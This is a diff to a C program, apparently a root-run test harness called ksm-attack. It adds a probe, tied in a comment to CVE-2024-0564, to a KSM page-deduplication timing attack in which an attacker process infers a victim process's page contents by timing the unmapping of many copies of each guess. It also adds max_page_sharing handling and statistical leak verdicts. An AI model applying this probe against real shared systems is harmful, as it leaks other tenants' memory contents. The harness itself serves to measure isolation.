@@ -72,13 +72,27 @@
 
 enum kase { C_GLOBAL, C_SAME, C_CROSS, NCASES };
 static const char *const case_name[NCASES] = { "global", "same", "cross" };
-enum probe { P_WRITE, P_READ, P_UNMAP, NPROBES };
-static const char *const probe_name[NPROBES] = { "write", "read", "unmap" };
+enum probe { P_WRITE, P_READ, P_UNMAP, P_CHAIN, NPROBES };
+static const char *const probe_name[NPROBES] = { "write", "read", "unmap", "chain" };
 
 static unsigned int trials = 3000, batch = 1000, ncand = 4;
 static bool tap;
 static int tapn, tapfail;
 static double cyc_per_ns, alpha = 0.001;
+/*
+ * The chain probe (CVE-2024-0564): the attacker holds max_page_sharing
+ * copies of each guess, so that its own copies fill a KSM page whether the
+ * victim holds the value or not (a write to any of them is a copy-on-write
+ * either way), and one more holder makes a stable node chain with a second
+ * KSM page; it times the unmapping of all the copies of a guess at once.
+ */
+static unsigned int max_sharing = 16;
+
+/* Pages the attacker holds per guess. */
+static unsigned int copies(enum probe p)
+{
+	return p == P_CHAIN ? max_sharing : 1;
+}
 
 /* ------------------------------------------------------------ helpers */
 
@@ -319,7 +333,7 @@ static void drop_to(uid_t uid)
  */
 static void tenant(const struct plan *pl, bool attacker, int cmd, int res)
 {
-	unsigned int b = pl->b, n = attacker ? b * ncand + 2 * b : 2 * b;
+	unsigned int b = pl->b, cp = copies(pl->probe), n = attacker ? b * ncand * cp + 2 * b : 2 * b;
 	unsigned char *mem;
 	int fd = -1;
 	char c;
@@ -338,10 +352,11 @@ static void tenant(const struct plan *pl, bool attacker, int cmd, int res)
 	for (unsigned int t = 0; t < b; t++) {
 		if (attacker) {
 			for (unsigned int g = 0; g < ncand; g++)
-				fill(mem + (t * ncand + g) * PSZ, pl->salt, t, g);
+				for (unsigned int k = 0; k < cp; k++)
+					fill(mem + ((t * ncand + g) * cp + k) * PSZ, pl->salt, t, g);
 			/* control pair: a value of the attacker's own, twice */
-			fill(mem + (b * ncand + t) * PSZ, pl->salt, t, ncand);
-			fill(mem + (b * ncand + b + t) * PSZ, pl->salt, t, ncand);
+			fill(mem + (b * ncand * cp + t) * PSZ, pl->salt, t, ncand);
+			fill(mem + (b * ncand * cp + b + t) * PSZ, pl->salt, t, ncand);
 		} else {
 			fill(mem + t * PSZ, pl->salt, t, pl->secret[t]);
 			fill(mem + (b + t) * PSZ, pl->salt, t, pl->secret[t]);
@@ -375,9 +390,16 @@ static void tenant(const struct plan *pl, bool attacker, int cmd, int res)
 			}
 			for (unsigned int i = 0; i < np; i++) {
 				unsigned int k = order[i];
-				unsigned long pg = k < b * ncand ? k : k + b;
+				unsigned long pg = k < b * ncand ? k * cp : b * ncand * cp + b + (k - b * ncand);
 
 				p = mem + pg * PSZ + (splitmix(&seed) % PSZ);
+				if (pl->probe == P_CHAIN && k < b * ncand) {
+					t0 = tsc();
+					madvise(mem + pg * PSZ, cp * PSZ, MADV_DONTNEED);
+					t1 = tsc();
+					pl->times[k] = t1 - t0;
+					continue;
+				}
 				if (pl->probe == P_WRITE) {
 					t0 = tsc();
 					*p = 0x5a;
@@ -386,7 +408,7 @@ static void tenant(const struct plan *pl, bool attacker, int cmd, int res)
 					t0 = tsc();
 					(void)*p;
 					t1 = tsc();
-				} else {
+				} else { /* unmap; and the chain probe's control pages */
 					t0 = tsc();
 					madvise((void *)((unsigned long)p & ~(PSZ - 1)), PSZ, MADV_DONTNEED);
 					t1 = tsc();
@@ -463,7 +485,8 @@ struct result {
 	bool merge_failed;
 };
 
-static const char *const knobs[] = { "run", "pages_to_scan", "sleep_millisecs", "smart_scan", NULL };
+static const char *const knobs[] = { "run", "pages_to_scan", "sleep_millisecs", "smart_scan",
+				     "max_page_sharing", NULL };
 
 /* ksmd at full speed until the expected sharing appears (or 10 scans). */
 static void ksmd_merge(unsigned long want)
@@ -477,13 +500,20 @@ static void ksmd_merge(unsigned long want)
 	f0 = ksm_read_ulong("full_scans");
 	if (ksm_write_ulong("run", 1))
 		die("start ksmd");
-	for (int i = 0; i < 6000; i++) {
+	for (unsigned long i = 0, last = 0, lastfs = 0, now; i < 6000; i++) {
 		unsigned long fs = ksm_read_ulong("full_scans") - f0;
 
-		if (fs >= 3 && ksm_read_ulong("pages_sharing") - base >= want)
+		now = ksm_read_ulong("pages_sharing") - base;
+		if (fs >= 3 && now >= want)
 			break;
-		if (fs >= 10)
+		if (fs >= 12)
 			break;
+		if (fs != lastfs) { /* settled: no change over a whole scan */
+			if (fs >= 4 && now == last)
+				break;
+			last = now;
+			lastfs = fs;
+		}
 		usleep(50000);
 	}
 	ksm_write_ulong("run", 0); /* nothing runs while the attacker probes */
@@ -491,7 +521,7 @@ static void ksmd_merge(unsigned long want)
 
 static void run_batch(struct plan *pl, struct result *res)
 {
-	unsigned int b = pl->b, na = b * ncand + 2 * b;
+	unsigned int b = pl->b, cp = copies(pl->probe), na = b * ncand * cp + 2 * b;
 	struct child vic, atk;
 	uint64_t *pv, *pa, *sv, *sa;
 	size_t i, j;
@@ -520,7 +550,7 @@ static void run_batch(struct plan *pl, struct result *res)
 	atk = spawn(pl, true);
 
 	if (pl->kase == C_GLOBAL) {
-		ksmd_merge(3UL * b);
+		ksmd_merge(cp == 1 ? 3UL * b : b * ((ncand - 1) * (cp - 1) + cp + 1UL));
 	} else {
 		struct reply r = ask(&vic, 'm');
 
@@ -542,8 +572,13 @@ static void run_batch(struct plan *pl, struct result *res)
 	pfns(atk.pid, atk.addr, na, pa);
 	for (i = 0; i < b; i++) {
 		res->vic_merged += pv[i] && pv[i] == pv[b + i];
-		res->atk_ctrl_merged += pa[b * ncand + i] && pa[b * ncand + i] == pa[b * ncand + b + i];
-		res->right_on_victim += pv[i] && pa[i * ncand + pl->secret[i]] == pv[i];
+		unsigned long c0 = b * ncand * cp + i, r0 = (i * ncand + pl->secret[i]) * cp;
+		bool on = false;
+
+		res->atk_ctrl_merged += pa[c0] && pa[c0] == pa[c0 + b];
+		for (unsigned int k = 0; k < cp; k++)
+			on |= pv[i] && pa[r0 + k] == pv[i];
+		res->right_on_victim += on;
 	}
 	memcpy(sv, pv, 2 * b * 8);
 	memcpy(sa, pa, na * 8);
@@ -654,7 +689,10 @@ static void run_case(enum kase k, enum probe pr)
 	}
 	leak = s.auc >= 0.9 && s.p_mwu < alpha && s.p_ks < alpha;
 	closed = s.auc > 0.4 && s.auc < 0.6 && s.p_mwu >= alpha && s.p_ks >= alpha;
-	verdict = leak ? "LEAKS" : closed ? "nothing learned" :
+	/* weak: both tests reject but the AUC is short of 0.9 (the attacker
+	 * needs repeated trials); differs: one test rejects */
+	verdict = leak ? "leaks" : closed ? "nothing-learned" :
+		  (s.p_mwu < alpha && s.p_ks < alpha) ? "weak-leak" :
 		  (s.p_mwu < alpha || s.p_ks < alpha) ? "differs" : "inconclusive";
 
 	printf("%-7s %-5s %6u %10llu %10llu %8.0f %8.0f %6.3f %7.2f %9.2g %6.3f %9.2g %5.1f%% %6.3f %5lu %5lu %5lu %5lu  %s\n",
@@ -672,7 +710,7 @@ static void run_case(enum kase k, enum probe pr)
 	       s.auc, s.z, s.p_mwu, s.d, s.p_ks, (double)r.correct / trials, sc.auc,
 	       r.vic_merged, r.atk_ctrl_merged, r.right_on_victim, r.cross_frames,
 	       r.vic_part_sharing, r.atk_part_sharing, r.atk_merging,
-	       leak ? "leaks" : closed ? "nothing-learned" : verdict[0] == 'd' ? "differs" : "inconclusive");
+	       verdict);
 	for (size_t i = 0; i < r.nr; i++)
 		bins[0][bin_of(r.right[i])]++;
 	for (size_t i = 0; i < r.nw; i++)
@@ -722,7 +760,7 @@ static void usage(FILE *f)
 	fprintf(f,
 		"usage: ksm-attack [--case global|same|cross|all] [--probe write|read|unmap|all]\n"
 		"                  [--trials T] [--batch B] [--candidates N] [--tsc-mhz F]\n"
-		"                  [--alpha A] [--tap]\n"
+		"                  [--alpha A] [--max-sharing S] [--tap]\n"
 		"Runs the deduplication timing attack (root; the tenants run as uid %d and %d).\n",
 		ATK_UID, VIC_UID);
 }
@@ -738,6 +776,7 @@ int main(int argc, char **argv)
 		{ "tap", no_argument, NULL, 'T' },
 		{ "tsc-mhz", required_argument, NULL, 'f' },
 		{ "alpha", required_argument, NULL, 'a' },
+		{ "max-sharing", required_argument, NULL, 'S' },
 		{ "help", no_argument, NULL, 'h' },
 		{ 0 }
 	};
@@ -746,7 +785,7 @@ int main(int argc, char **argv)
 	double tsc_mhz = 0;
 	int o;
 
-	while ((o = getopt_long(argc, argv, "c:p:t:b:n:Tf:a:h", opts, NULL)) != -1) {
+	while ((o = getopt_long(argc, argv, "c:p:t:b:n:Tf:a:S:h", opts, NULL)) != -1) {
 		switch (o) {
 		case 'c':
 			cases = !strcmp(optarg, "all") ? 7 : 0;
@@ -757,7 +796,7 @@ int main(int argc, char **argv)
 				return usage(stderr), 2;
 			break;
 		case 'p':
-			probes = !strcmp(optarg, "all") ? 7 : 0;
+			probes = !strcmp(optarg, "all") ? 15 : 0;
 			for (int k = 0; k < NPROBES; k++)
 				if (!strcmp(optarg, probe_name[k]))
 					probes = 1u << k;
@@ -782,6 +821,9 @@ int main(int argc, char **argv)
 		case 'a':
 			alpha = strtod(optarg, NULL);
 			break;
+		case 'S':
+			max_sharing = strtoul(optarg, NULL, 0);
+			break;
 		case 'h':
 			usage(stdout);
 			return 0;
@@ -790,8 +832,8 @@ int main(int argc, char **argv)
 			return 2;
 		}
 	}
-	if (trials < 10 || batch < 1 || ncand < 2 || ncand > 255) {
-		fprintf(stderr, "ksm-attack: need --trials >= 10, --batch >= 1, 2 <= --candidates <= 255\n");
+	if (trials < 10 || batch < 1 || ncand < 2 || ncand > 255 || max_sharing < 4) {
+		fprintf(stderr, "ksm-attack: need --trials >= 10, --batch >= 1, 2 <= --candidates <= 255, --max-sharing >= 4\n");
 		return 2;
 	}
 	if (batch > trials)
@@ -807,6 +849,12 @@ int main(int argc, char **argv)
 	if (tap)
 		printf("1..%d\n", 4 * !!(cases & 1) + 4 * !!(cases & 2) + 5 * !!(cases & 4));
 	ksm_knobs_save(&saved, knobs);
+	/* The chain probe needs max_page_sharing = its number of copies (the
+	 * other probes put at most 3 mappings on a KSM page). */
+	if ((probes >> P_CHAIN & 1) && ksm_read_ulong("max_page_sharing") != max_sharing &&
+	    ksm_write_ulong("max_page_sharing", max_sharing))
+		die("max_page_sharing %u (it cannot change while a page is merged or a partition exists)",
+		    max_sharing);
 	cyc_per_ns = tsc_mhz > 0 ? tsc_mhz / 1000 : calibrate(tap ? 0.3 : 1.0);
 	printf("# %u trials per case in batches of %u, %u candidates per secret page (chance %.0f%%);"
 	       " TSC %.3f cycles/ns (%s); alpha %g\n",
